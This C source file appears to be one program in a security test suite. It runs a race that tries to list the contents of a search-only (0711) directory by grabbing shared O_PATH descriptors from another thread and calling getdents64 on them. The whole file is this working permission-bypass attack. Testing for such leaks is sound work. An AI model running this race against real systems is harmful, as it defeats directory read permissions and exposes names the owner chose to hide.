/* A thread is led into directories that may be searched but not read, again and again; another takes hold of the descriptors that it is led by, and lists what
 * they have.
 *
 *     lent_guest DIR SECONDS
 *
 * DIR has the directory "search" (0711) and in it a program "prog". Prints the names that it got.
 */
#include "attack.h"

#include <dirent.h>
#include <pthread.h>
#include <sched.h>

static volatile int stop;

static void *take(void *arg)
{
	static char names[64][256];
	size_t known = 0;

	(void)arg;
	while (!stop)
		for (int fd = 3; fd < 10; fd++) {
			char buf[4096];
			int mine = dup(fd);
			long n = mine < 0 ? -1 : syscall(SYS_getdents64, mine, buf, sizeof buf);

			for (long at = 0; at < n;) {
				struct dirent64 *e = (struct dirent64 *)(buf + at);
				size_t i = 0;

				while (i < known && strcmp(names[i], e->d_name) != 0)
					i++;
				if (i == known && known < 64) {
					snprintf(names[known++], sizeof names[0], "%s", e->d_name);
					printf("NAME %s\n", e->d_name);
				}
				at += e->d_reclen;
			}
			if (mine >= 0)
				close(mine);
		}
	return NULL;
}

int main(int argc, char **argv)
{
	char search[4200], prog[4300];
	pthread_t t;

	if (argc != 3)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(search, sizeof search, "%s/search", argv[1]);
	snprintf(prog, sizeof prog, "%s/prog", search);
	pthread_create(&t, NULL, take, NULL);
	for (double end = attack_now() + atof(argv[2]); attack_now() < end;) {
		TRY(chdir(search));
		TRY(chdir("/"));
		int fd = TRY(open(search, O_PATH));
		if (fd >= 0)
			TRY(fchdir(fd));
		close(fd);
		close(TRY(open(prog, O_PATH)));
		/* a child that has the descriptors too is led to a program */
		pid_t pid = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
		if (pid == 0) {
			execl(prog, "prog", NULL);
			_exit(1);
		}
		waitpid(pid, NULL, 0);
	}
	stop = 1;
	pthread_join(t, NULL);
	return attack_end();
}
